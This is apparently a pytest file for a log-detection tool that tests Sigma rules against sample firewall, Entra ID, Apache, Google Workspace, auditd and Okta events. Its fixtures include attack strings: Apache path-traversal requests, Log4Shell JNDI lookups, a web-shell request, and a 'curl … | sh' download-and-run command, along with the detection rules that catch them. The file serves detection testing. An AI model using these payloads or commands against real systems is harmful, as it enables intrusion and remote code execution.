"""Sigma rules from SigmaHQ's rules-placeholder / rules-emerging-threats / rules-threat-hunting (twenty-fifth round).

Rules: tests/cases/sigma_holdout (see SOURCE.md "Round 25 (sigma)"). Events are written as their
sources log them (the Sigma taxonomy's firewall fields as JSON), expectations from the Sigma
specification and its modifiers appendix.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

import msgspec
from typer.testing import CliRunner

from secpipe import formats
from secpipe.cli.main import _register, app
from secpipe.detect.sigma import load_rules
from tests.unit.holdout_support import ndjson as _ndjson
from tests.unit.holdout_support import sigma_rows as _rows
from tests.unit.holdout_support import workspace_entry

CASES = Path(__file__).resolve().parents[1] / "cases"
RULES = CASES / "sigma_holdout"






# -- a network placeholder: field|cidr|expand ----------------------------------------------
# SigmaHQ rules-placeholder/network/firewall/net_firewall_tftp_config_exfil_from_management_segment.yml
# names the management networks by a placeholder (src_ip|cidr|expand: '%management_networks%');
# pySigma parses a cidr value when it reads the rule, so the rule was refused as an invalid CIDR.

TFTP = RULES / "net_firewall_tftp_config_exfil_from_management_segment.yml"
FIREWALL = [
    {"src_ip": "10.20.0.5", "src_port": 50123, "dst_ip": "203.0.113.7", "dst_port": 69, "proto": "udp"},
    {"src_ip": "10.20.0.5", "src_port": 50124, "dst_ip": "10.1.1.1", "dst_port": 69, "proto": "udp"},  # internal
    {"src_ip": "10.30.0.5", "src_port": 50125, "dst_ip": "203.0.113.7", "dst_port": 69, "proto": "udp"},  # not mgmt
    {"src_ip": "10.20.0.5", "src_port": 50126, "dst_ip": "203.0.113.7", "dst_port": 53, "proto": "udp"},  # DNS
    {"src_ip": "fd00:20::5", "src_port": 50127, "dst_ip": "2001:db8::7", "dst_port": 69, "proto": "UDP"},
]


def test_cidr_placeholder_takes_the_given_networks() -> None:
    rs = load_rules([TFTP], placeholders={"management_networks": ["10.20.0.0/24", "fd00:20::/32"]})
    assert not rs.unsupported, rs.unsupported
    assert _rows(rs, _ndjson(FIREWALL)) == [0, 4]


def test_firewall_rule_reads_netfilter_log_lines() -> None:
    # netfilter's LOG target (the kernel's nf_log: "IN=%s OUT=%s ... SRC=%pI4 DST=%pI4 LEN=%u TOS=0x%02X
    # PREC=0x%02X TTL=%u ID=%u [DF] PROTO=UDP SPT=%u DPT=%u LEN=%u"), here with ufw's prefix
    head = "<4>Jul 16 10:00:0{} gw1 kernel: [12345.67890{}] [UFW ALLOW] IN= OUT=eth0 "
    lines = [head.format(0, 1) + "SRC=10.20.0.5 DST=203.0.113.7 LEN=60 TOS=0x00 PREC=0x00 TTL=63 ID=54321 DF "
             "PROTO=UDP SPT=50123 DPT=69 LEN=40",
             head.format(1, 2) + "SRC=10.20.0.5 DST=10.1.1.1 LEN=60 TOS=0x00 PREC=0x00 TTL=63 ID=54322 DF "
             "PROTO=UDP SPT=50124 DPT=69 LEN=40",  # internal destination
             head.format(2, 3) + "SRC=10.20.0.5 DST=203.0.113.7 LEN=60 TOS=0x00 PREC=0x00 TTL=63 ID=54323 DF "
             "PROTO=TCP SPT=50125 DPT=69 WINDOW=64240 RES=0x00 SYN URGP=0",  # TCP
             "<38>Jul 16 10:00:03 gw1 sshd[99]: Accepted password for root from 10.20.0.5 port 50126 ssh2"]
    rs = load_rules([TFTP], placeholders={"management_networks": ["10.20.0.0/24"]})
    assert _rows(rs, "\n".join(lines).encode(), "syslog") == [0]


def test_cidr_placeholder_takes_a_pipelines_vars(tmp_path: Path) -> None:
    # the values a pySigma pipeline gives its value_placeholders (secpipe hunt --pipeline)
    pipeline = tmp_path / "site.yml"
    pipeline.write_text(textwrap.dedent("""\
        name: site placeholders
        priority: 10
        vars:
            management_networks: [10.20.0.0/24]
        transformations:
            - id: site_placeholders
              type: value_placeholders
    """))
    rs = load_rules([TFTP], pipelines=[str(pipeline)])
    assert not rs.unsupported, rs.unsupported
    assert _rows(rs, _ndjson(FIREWALL)) == [0]


def test_cidr_placeholder_without_values_matches_nothing() -> None:
    rs = load_rules([TFTP])
    assert not rs.unsupported, rs.unsupported
    assert any("%management_networks% has no values" in w for w in rs.rules[0].warnings)
    assert _rows(rs, _ndjson(FIREWALL)) == []


def test_cidr_placeholder_value_that_is_no_network_is_refused_once() -> None:
    rs = load_rules([TFTP], placeholders={"management_networks": ["mgmt-lan"]})
    assert rs.total == 1 and not rs.rules
    (u,) = rs.unsupported
    assert "Invalid CIDR expression: 'mgmt-lan'" in u.reason


def test_cidr_placeholder_beside_a_network(tmp_path: Path) -> None:
    rule = tmp_path / "r.yml"
    rule.write_text(textwrap.dedent("""\
        title: jump hosts or the management networks
        id: 4b6d8f0a-2c4e-4a6b-8d0f-1a3c5e7f9b2d
        logsource: {category: firewall}
        detection:
            selection:
                src_ip|expand|cidr: ['192.0.2.0/28', '%management_networks%', '%jump_hosts%']
            condition: selection
        level: low
    """))
    rs = load_rules([rule], placeholders={"management_networks": ["10.20.0.0/24"]})
    assert not rs.unsupported, rs.unsupported
    assert any("%jump_hosts%" in w and "only the given networks" in w for w in rs.rules[0].warnings)
    events = [{"src_ip": "192.0.2.3"}, {"src_ip": "10.20.0.9"}, {"src_ip": "198.51.100.1"}]
    assert _rows(rs, _ndjson(events)) == [0, 1]


# -- odd rule files are refused with a reason, never a crash -------------------------------

def test_numeric_id_and_condition_are_read_as_text(tmp_path: Path) -> None:
    # pySigma called string methods on them (AttributeError / TypeError stopped the whole load)
    rules = {
        "a.yml": "title: numbered\nid: 1\ndetection: {sel: {CommandLine|contains: whoami}, condition: sel}\n",
        "b.yml": "title: numbered twice\nid: 2.5\ndetection: {sel: {CommandLine|contains: id}, condition: sel}\n",
        "c.yml": "title: numeric condition\ndetection: {'5': {CommandLine: x}, sel: {CommandLine: y}, condition: 5}\n",
        "d.yml": "title: missing search\ndetection: {sel: {CommandLine: y}, condition: [sel, 3]}\n",
    }
    for name, text in rules.items():
        (tmp_path / name).write_text(text + "logsource: {product: linux}\nlevel: low\n")
    rs = load_rules([tmp_path])
    assert rs.total == 4
    assert {r.title: r.id for r in rs.rules if r.id in ("1", "2.5")} == {"numbered": "1", "numbered twice": "2.5"}
    (u,) = rs.unsupported
    assert u.rule.endswith("d.yml") and "Detection '3' not defined" in u.reason
    cond = next(r for r in rs.rules if r.title == "numeric condition")
    assert not any("upper case" in w for w in cond.warnings)
    assert _rows(load_rules([tmp_path / "c.yml"]), b'{"CommandLine": "x"}\n{"CommandLine": "y"}') == [0]


def test_a_yaml_list_file_among_rules_is_refused_not_raised(tmp_path: Path) -> None:
    # a rules directory may hold other YAML (test cases, lists): pySigma read each document as a
    # mapping and its AttributeError stopped the whole load
    (tmp_path / "cases.yml").write_text("- rule: a\n  expect: 1\n- rule: b\n  expect: 0\n")
    (tmp_path / "good.yml").write_text("title: ok\nid: 1b2c3d4e-5f6a-4b7c-8d9e-0f1a2b3c4d5e\n"
                                       "logsource: {product: linux}\ndetection: {k: [evil], condition: k}\nlevel: low\n")
    rs = load_rules([tmp_path])
    assert [r.title for r in rs.rules] == ["ok"]
    (u,) = rs.unsupported
    assert u.rule.endswith("cases.yml") and "document 1 is a YAML list, not a mapping" in u.reason


def test_rules_check_counts_an_invalid_rule_once(tmp_path: Path) -> None:
    _register()
    bad = tmp_path / "bad.yml"
    bad.write_text(TFTP.read_text().replace("'%management_networks%'", "'10.20.0.0/33'"))
    out = CliRunner().invoke(app, ["rules", "check", str(bad)])
    assert out.stdout.splitlines()[0] == "0/1 rules supported"
    assert out.stdout.count("UNSUPPORTED") == 1 and "Invalid CIDR expression: '10.20.0.0/33'" in out.stdout


# -- Entra ID records exported by diagnostic settings: columns under properties ----------------
# SigmaHQ's azure signinlogs/auditlogs rules name the Log Analytics columns (UserAgent, Category,
# OperationName); an exported record (Azure Monitor's common schema, {"records": [...]}) keeps
# time, operationName, category, resultType... at its top and the other columns in properties.

def _exported_signin(user: str, agent: str, i: int) -> dict:
    """An Entra ID sign-in record as diagnostic settings export it (SignInLogs category)."""
    return {"time": f"2026-03-25T10:00:0{i}.0000000Z", "resourceId": "/tenants/aaaa-bbbb/providers/Microsoft.aadiam",
            "operationName": "Sign-in activity", "operationVersion": "1.0", "category": "SignInLogs",
            "tenantId": "aaaa-bbbb", "resultType": "0", "resultSignature": "None", "durationMs": 0,
            "callerIpAddress": "203.0.113.5", "correlationId": f"c{i}", "identity": user, "Level": 4, "location": "US",
            "properties": {"id": f"s{i}", "createdDateTime": f"2026-03-25T10:00:0{i}Z", "userPrincipalName": user,
                           "appDisplayName": "OfficeHome", "ipAddress": "203.0.113.5", "clientAppUsed": "Browser",
                           "userAgent": agent, "status": {"errorCode": 0}, "isInteractive": True}}


def _exported_audit(activity: str, category: str, result: str, i: int) -> dict:
    """An Entra ID audit record as diagnostic settings export it (AuditLogs category)."""
    return {"time": f"2026-03-25T11:00:0{i}.0000000Z", "resourceId": "/tenants/aaaa-bbbb/providers/Microsoft.aadiam",
            "operationName": activity, "operationVersion": "1.0", "category": "AuditLogs", "tenantId": "aaaa-bbbb",
            "resultSignature": "None", "durationMs": 0, "callerIpAddress": "203.0.113.9", "correlationId": f"a{i}",
            "Level": 4, "properties": {"id": f"Directory_{i}", "category": category, "correlationId": f"a{i}",
                                       "result": result, "resultReason": "", "activityDisplayName": activity,
                                       "activityDateTime": f"2026-03-25T11:00:0{i}Z", "loggedByService": "Core Directory",
                                       "operationType": "Read" if activity.startswith("Read") else "Update",
                                       "initiatedBy": {"user": {"userPrincipalName": "admin@contoso.com"}},
                                       "targetResources": [{"type": "Device", "displayName": "LAPTOP-1"}]}}


def _azure_rows(rule: str, records: list[dict]) -> list[int]:
    rs = load_rules([RULES / rule])
    assert not rs.unsupported, rs.unsupported
    return _rows(rs, msgspec.json.encode({"records": records}), "k8s_audit")


def test_signin_rule_reads_the_exported_properties() -> None:
    records = [_exported_signin("alice@contoso.com", "axios/1.7.7", 0),
               _exported_signin("bob@contoso.com", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", 1)]
    assert _azure_rows("azure_ad_signin_axios_user_agent.yml", records) == [0]
    # a Log Analytics export writes the columns at the top: read there as before
    columns = [{"TimeGenerated": "2026-03-25T10:00:00Z", "UserAgent": "axios/1.7.7", "ResultType": "0"},
               {"TimeGenerated": "2026-03-25T10:00:01Z", "UserAgent": "Mozilla/5.0", "ResultType": "0"}]
    rs = load_rules([RULES / "azure_ad_signin_axios_user_agent.yml"])
    assert _rows(rs, _ndjson(columns)) == [0]


def test_audit_rules_on_exported_audit_records() -> None:
    records = [_exported_audit("Read BitLocker key", "KeyManagement", "success", 0),
               _exported_audit("Read BitLocker key", "DeviceManagement", "success", 1),  # other category
               _exported_audit("Disable Strong Authentication", "UserManagement", "success", 2),
               _exported_audit("Disable Strong Authentication", "UserManagement", "failure", 3)]
    assert _azure_rows("azure_ad_bitlocker_key_retrieval.yml", records) == [0]
    # a rule that names the exported path (properties.result) reads it as written
    assert _azure_rows("azure_mfa_disabled.yml", records) == [2]


def test_correlation_groups_by_an_exported_property(tmp_path: Path) -> None:
    from secpipe.detect.sigma.correlation import CorrelationEngine

    rule = tmp_path / "c.yml"
    rule.write_text((RULES / "azure_ad_signin_axios_user_agent.yml").read_text() + textwrap.dedent("""\
        ---
        title: axios sign-ins against many accounts
        id: 5c7e9a1b-3d5f-4b7c-9e1a-2b4d6f8a0c3e
        correlation:
            type: value_count
            rules: [ea1a07f0-3dac-47a2-aeb4-86f5379ba2b4]
            group-by: [IPAddress]
            timespan: 10m
            condition: {gte: 3, field: UserPrincipalName}
        level: high
    """))
    rs = load_rules([rule])
    assert not rs.unsupported, rs.unsupported

    def fired(users: list[str]) -> int:
        body = msgspec.json.encode({"records": [_exported_signin(u, "axios/1.7.7", i) for i, u in enumerate(users)]})
        eng = CorrelationEngine(rs, None, clock=lambda: 1774432800.0)
        n = 0
        for b in formats.get("k8s_audit").decode(body, "t").batches:
            out = eng.process(b, rs.matches(b))
            n += 0 if out is None else out.num_rows
        return n

    assert fired(["a@contoso.com", "b@contoso.com", "c@contoso.com"]) == 1
    assert fired(["a@contoso.com", "a@contoso.com", "a@contoso.com"]) == 0


def test_absence_needs_every_spelling_absent(tmp_path: Path) -> None:
    # a field read at the top or under properties is missing only when missing at both
    rule = tmp_path / "r.yml"
    rule.write_text(textwrap.dedent("""\
        title: sign-ins without a user agent
        id: 6d8f0a2c-4e6b-4d8f-a0c2-3e5a7c9b1d4f
        logsource: {product: azure, service: signinlogs}
        detection:
            selection:
                ResultType: 0
            no_agent:
                userAgent: null
            no_app:
                AppDisplayName|exists: false
            condition: selection and (not no_agent or no_app)
        level: low
    """))
    rs = load_rules([rule])
    assert not rs.unsupported, rs.unsupported
    with_agent = _exported_signin("a@contoso.com", "axios/1.7.7", 0)
    without = _exported_signin("b@contoso.com", "", 1)
    del without["properties"]["userAgent"]
    no_app = _exported_signin("c@contoso.com", "", 2)
    del no_app["properties"]["userAgent"], no_app["properties"]["appDisplayName"]
    body = msgspec.json.encode({"records": [with_agent, without, no_app]})
    assert _rows(rs, body, "k8s_audit") == [0, 2]


# -- web server rules on access log lines (HTTP Activity) --------------------------------------
# The Sigma taxonomy's webserver/proxy fields are W3C names; an Apache/nginx access line is stored
# with the request's parts in OCSF columns (http_request.url.path, .query_string, .user_agent ...).

# Apache's combined format: %h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-agent}i"
TRAVERSAL = [
    '203.0.113.9 - - [05/Oct/2021:10:00:00 +0000] "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" 200 38 "-" "curl/7.79.1"',
    '203.0.113.9 - - [05/Oct/2021:10:00:01 +0000] "GET /icons/.%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1" 403 199 "-" "curl/7.79.1"',
    '203.0.113.9 - - [05/Oct/2021:10:00:02 +0000] "GET /icons/.%%32%65/.%%32%65/etc/passwd HTTP/1.1" 200 1200 "-" "curl/7.79.1"',
    '203.0.113.9 - - [05/Oct/2021:10:00:03 +0000] "GET /icons/apache_pb.gif HTTP/1.1" 200 4463 "-" "Mozilla/5.0"',
    # Apache's vhost_combined through syslog (rsyslog imfile / logger)
    '<190>Oct  5 10:00:04 web1 apache2: www.example.com:443 203.0.113.9 - - [05/Oct/2021:10:00:04 +0000] '
    '"GET /cgi-bin/.%2e/.%2e/etc/hosts HTTP/1.1" 301 0 "-" "curl/7.79.1"',
]
LOG4SHELL = [
    '203.0.113.9 - - [10/Dec/2021:20:11:05 +0000] "GET /api/x HTTP/1.1" 200 512 "-" "${jndi:ldap://198.51.100.7:1389/a}"',
    '203.0.113.9 - - [10/Dec/2021:20:11:06 +0000] "GET /search?q=%24%7bjndi:ldap://198.51.100.7/a%7d HTTP/1.1" 404 153 "-" "curl/7.68.0"',
    '203.0.113.9 - - [10/Dec/2021:20:11:07 +0000] "GET / HTTP/1.1" 200 612 "${jndi:rmi://198.51.100.7/x}" "Mozilla/5.0"',
    '203.0.113.10 - - [10/Dec/2021:20:11:08 +0000] "GET /index.html?jndi=1 HTTP/1.1" 200 612 "-" "Mozilla/5.0 (jndi)"',
]


def test_webserver_rules_read_access_log_columns() -> None:
    rs = load_rules([RULES / "web_cve_2021_41773_apache_path_traversal.yml"])
    assert not rs.unsupported, rs.unsupported
    assert _rows(rs, "\n".join(TRAVERSAL).encode(), "syslog") == [0, 2, 4]  # the 403 was refused
    rs = load_rules([RULES / "web_cve_2021_44228_log4j_fields.yml"])
    assert _rows(rs, "\n".join(LOG4SHELL).encode(), "syslog") == [0, 1, 2]  # user agent, query, referer
    # an event written with the W3C names themselves is read as before
    w3c = [{"cs-uri-query": "/cgi-bin/.%2e/.%2e/bin/sh", "sc-status": 200}, {"cs-uri-query": "/x", "sc-status": 200}]
    assert _rows(load_rules([RULES / "web_cve_2021_41773_apache_path_traversal.yml"]), _ndjson(w3c)) == [0]


def test_proxy_taxonomy_fields_read_access_log_columns(tmp_path: Path) -> None:
    rule = tmp_path / "r.yml"
    rule.write_text(textwrap.dedent("""\
        title: curl fetching a shell script from a host without a name
        id: 7e9a1c3d-5f7b-4d9e-b1c3-4d6f8a0b2c5e
        logsource: {category: proxy}
        detection:
            selection:
                c-useragent|startswith: 'curl/'
                c-uri|endswith: '.sh'
                cs-method: GET
                sc-status: 200
            filter_named:
                cs-host|exists: true
            condition: selection and not filter_named
        level: low
    """))
    rs = load_rules([rule])
    assert not rs.unsupported, rs.unsupported
    lines = ['203.0.113.9 - - [05/Oct/2021:10:00:00 +0000] "GET /x/a.sh HTTP/1.1" 200 38 "-" "curl/7.79.1"',
             '203.0.113.9 - - [05/Oct/2021:10:00:01 +0000] "GET /x/a.sh HTTP/1.1" 404 38 "-" "curl/7.79.1"',
             '203.0.113.9 - - [05/Oct/2021:10:00:02 +0000] "GET /x/a.sh HTTP/1.1" 200 38 "-" "Wget/1.21"',
             'cdn.example:443 203.0.113.9 - - [05/Oct/2021:10:00:03 +0000] "GET /x/a.sh HTTP/1.1" 200 38 "-" "curl/8.0"']
    assert _rows(rs, "\n".join(lines).encode(), "syslog") == [0]


def test_hunt_fires_webserver_rule_over_an_access_log_lake(tmp_path: Path) -> None:
    _register()
    src = tmp_path / "access.log"
    src.write_text("\n".join(TRAVERSAL) + "\n")
    data = tmp_path / "d"
    r = CliRunner()
    out = r.invoke(app, ["ingest", "--format", "auto", "--json", "--data", str(data), str(src)])
    assert msgspec.json.decode(out.stdout)["stored"] == {"http_activity": 5}
    out = r.invoke(app, ["hunt", "--json", "--data", str(data), "-r",
                         str(RULES / "web_cve_2021_41773_apache_path_traversal.yml")])
    assert msgspec.json.decode(out.stdout)["hits"] == {"3007fec6-e761-4319-91af-e32e20ac43f5": 3}


# -- Google Workspace audit logs in Cloud Logging ------------------------------------------------

def test_workspace_admin_rule_reads_the_log_entry() -> None:
    events = [workspace_entry("admin.googleapis.com", "google.admin.AdminService.grantAdminPrivilege", "USER_SETTINGS",
                         "GRANT_ADMIN_PRIVILEGE", {"USER_EMAIL": "bob@example.com"}, 0),
              workspace_entry("admin.googleapis.com", "google.admin.AdminService.moveUserToOrgUnit", "USER_SETTINGS",
                         "MOVE_USER_TO_ORG_UNIT", {"USER_EMAIL": "bob@example.com", "NEW_VALUE": "/"}, 1),
              workspace_entry("login.googleapis.com", "google.login.LoginService.suspiciousLogin", "login",
                         "suspicious_login", {"login_type": "google_password"}, 2)]
    body = _ndjson(events)
    rs = load_rules([RULES / "gcp_gworkspace_user_granted_admin_privileges.yml"])
    assert not rs.unsupported, rs.unsupported
    assert _rows(rs, body, "k8s_audit") == [0]
    assert _rows(rs, _ndjson([{"eventService": "admin.googleapis.com", "eventName": "GRANT_ADMIN_PRIVILEGE"}])) == [0]
    # the newer rules name the LogEntry's paths themselves
    assert _rows(load_rules([RULES / "gcp_gworkspace_suspicious_login.yml"]), body, "k8s_audit") == [2]


def test_moodle_upload_path_rule_on_access_lines() -> None:
    lines = ['198.51.100.23 - - [31/Jul/2026:09:14:02 +0000] "GET /moodledata/filedir/4a/7c/shell.php?cmd=id HTTP/1.1" '
             '200 57 "-" "python-requests/2.31.0"',
             '198.51.100.23 - - [31/Jul/2026:09:14:03 +0000] "GET /theme/boost/pix/favicon.ico HTTP/1.1" 200 1150 "-" "Mozilla/5.0"',
             '198.51.100.23 - - [31/Jul/2026:09:14:04 +0000] "GET /pix/x.php HTTP/1.1" 404 196 "-" "python-requests/2.31.0"',
             '198.51.100.23 - - [31/Jul/2026:09:14:05 +0000] "GET /pluginfile.php/12/user/icon/f1 HTTP/1.1" 200 3012 '
             '"https://lms.example.edu/my/" "Mozilla/5.0"']
    rs = load_rules([RULES / "web_moodle_php_execution_in_upload_path.yml"])
    assert not rs.unsupported, rs.unsupported
    assert _rows(rs, "\n".join(lines).encode(), "syslog") == [0]


def test_correlation_groups_access_lines_by_client(tmp_path: Path) -> None:
    from secpipe.detect.sigma.correlation import CorrelationEngine

    rule = tmp_path / "c.yml"
    rule.write_text(textwrap.dedent("""\
        title: not found
        name: web_404
        id: 6e8a0c2e-4a6c-4e8a-b0c2-5f7a9b1d3e5a
        logsource: {category: webserver}
        detection: {sel: {sc-status: 404}, condition: sel}
        level: low
        ---
        title: one client scanning
        id: 7f9b1d3f-5b7d-4f9b-81d3-6a8b0c2e4f6b
        correlation: {type: event_count, rules: [web_404], group-by: [c-ip], timespan: 1m, condition: {gte: 3}}
        level: medium
    """))
    rs = load_rules([rule])
    assert not rs.unsupported, rs.unsupported

    def fired(clients: list[str]) -> int:
        lines = [f'{ip} - - [29/Nov/2026:10:00:0{i} +0000] "GET /x{i} HTTP/1.1" 404 153 "-" "curl/8.5.0"'
                 for i, ip in enumerate(clients)]
        eng = CorrelationEngine(rs, None, clock=lambda: 1795946410.0)
        n = 0
        for b in formats.get("syslog").decode("\n".join(lines).encode(), "t").batches:
            out = eng.process(b, rs.matches(b))
            n += 0 if out is None else out.num_rows
        return n

    assert fired(["203.0.113.9"] * 3) == 1
    assert fired(["203.0.113.9", "203.0.113.10", "203.0.113.11"]) == 0


# -- auditd's hex-encoded untrusted strings ------------------------------------------------------
# The kernel logs an EXECVE argument (and comm, exe, name, cwd, proctitle) quoted, or as the
# upper-case hex of its bytes when it holds a space, a double quote or a control character
# (audit_log_untrustedstring); a PROCTITLE's arguments are NUL-separated.

def test_auditd_hex_arguments_are_read_decoded(tmp_path: Path) -> None:
    from secpipe.detect.sigma.correlation import CorrelationEngine, _kv

    rule = tmp_path / "r.yml"
    rule.write_text(textwrap.dedent("""\
        title: shell running a download piped to a shell
        name: curl_pipe_sh
        id: 9b1d3f5a-7c9e-4b1d-a3f5-8c0e2a4b6d8f
        logsource: {product: linux, service: auditd}
        detection:
            execve:
                type: EXECVE
                a1: '-c'
                a2|contains|all: ['curl ', '| sh']
            title:
                type: PROCTITLE
                proctitle|contains: 'curl http'
            condition: execve or title
        level: high
        ---
        title: repeated by one process tree
        id: 0c2e4a6b-8d0f-4c2e-94a6-9d1f3b5c7e9a
        correlation: {type: event_count, rules: [curl_pipe_sh], group-by: [a2], timespan: 1h, condition: {gte: 2}}
        level: high
    """))
    head = "<14>Nov 29 10:00:0{} host1 audispd: "
    cmd = "curl http://198.51.100.7/x | sh"
    lines = [head.format(0) + 'type=EXECVE msg=audit(1795946400.100:501): argc=3 a0="bash" a1="-c" a2=' + cmd.encode().hex().upper(),
             head.format(1) + 'type=EXECVE msg=audit(1795946401.100:502): argc=3 a0="bash" a1="-c" a2=' + cmd.encode().hex().upper(),
             head.format(2) + 'type=EXECVE msg=audit(1795946402.100:503): argc=3 a0="bash" a1="-c" a2="id"',
             head.format(3) + "type=PROCTITLE msg=audit(1795946403.100:504): proctitle="
             + b"bash\x00-c\x00curl http://198.51.100.7/x".hex().upper(),
             # a SYSCALL record's a0-a3 are register values: a2=10 is no hex text
             head.format(4) + 'type=SYSCALL msg=audit(1795946404.100:505): arch=c000003e syscall=59 success=yes exit=0 '
             'a0=55d0c1e0 a1=2D63 a2=10 a3=0 items=2 ppid=1 pid=2 comm="bash" exe="/usr/bin/bash" key=(null)']
    rs = load_rules([rule])
    assert not rs.unsupported, rs.unsupported
    rs.rules[0].output = True
    body = "\n".join(lines).encode()
    assert _rows(rs, body, "syslog") == [0, 1, 3]
    eng = CorrelationEngine(rs, None, clock=lambda: 1795946410.0)
    out = [eng.process(b, rs.matches(b)) for b in formats.get("syslog").decode(body, "t").batches]
    assert sum(0 if o is None else o.num_rows for o in out) == 1  # the two EXECVE records: one a2
    # correlations read the decoded value too (group-by, value_count fields)
    assert _kv(lines[0], "a2") == cmd and _kv(lines[3], "proctitle") == "bash -c curl http://198.51.100.7/x"
    assert _kv(lines[4], "a2") == "10" and _kv(lines[4], "a1") == "2D63"


# -- Okta System Log events streamed to Amazon EventBridge ---------------------------------------

def test_okta_rules_read_the_eventbridge_detail() -> None:
    def event(message: str, legacy: str, alternate: str, i: int) -> dict:
        return {"uuid": f"evt-{i}", "published": f"2026-11-29T10:00:0{i}.000Z", "eventType": "user.account.lock",
                "legacyEventType": legacy, "displayMessage": message, "severity": "WARN", "version": "0",
                "actor": {"id": "00u1", "type": "User", "alternateId": alternate, "displayName": "Alice"},
                "client": {"ipAddress": "203.0.113.5"}, "outcome": {"result": "FAILURE"}}

    def envelope(detail: dict, i: int) -> dict:
        return {"version": "0", "id": f"eventbridge-delivery-{i}", "detail-type": "SystemLog",
                "source": "aws.partner/okta.com/acme/event-stream", "account": "123456789012",
                "time": detail["published"], "region": "us-east-1", "resources": [], "detail": detail}

    events = [envelope(event("Max sign in attempts exceeded", "core.user_auth.account_locked", "alice@acme.com", 0), 0),
              envelope(event("User login to Okta", "core.user_auth.login_failed", "Winter2026!", 1), 1),
              envelope(event("User login to Okta", "core.user_auth.login_failed", "bob@acme.com", 2), 2)]
    body = _ndjson(events)
    assert _rows(load_rules([RULES / "okta_user_account_locked_out.yml"]), body) == [0]
    # a password typed as the user name: the filter on actor.alternateid reads detail.actor.alternateId
    assert _rows(load_rules([RULES / "okta_password_in_alternateid_field.yml"]), body) == [1]
    # the System Log event itself is read as before
    assert _rows(load_rules([RULES / "okta_user_account_locked_out.yml"]), _ndjson([e["detail"] for e in events])) == [0]
